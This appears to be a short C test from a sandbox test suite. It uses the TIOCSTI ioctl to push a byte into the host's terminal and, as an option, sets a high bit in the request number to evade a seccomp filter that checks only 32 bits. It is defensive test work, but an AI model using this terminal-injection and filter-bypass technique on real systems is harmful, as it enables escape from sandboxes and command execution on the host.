/* SPDX-License-Identifier: MIT */
/* A command line for the host's shell, pushed into the terminal; also with a request number that a filter on 64 bits
 * misses. */
#include <sys/ioctl.h>
#include <sys/syscall.h>

#include "attack.h"

int main(int argc, char **argv)
{
	unsigned long high = argc > 2 && !strcmp(argv[2], "high") ? 1ul << 32 : 0;
	char byte = '\n';
	if (!isatty(0))
		return BROKEN;
	return syscall(SYS_ioctl, 0, TIOCSTI | high, &byte) == 0 ? GOT_OUT : refused("TIOCSTI");
}
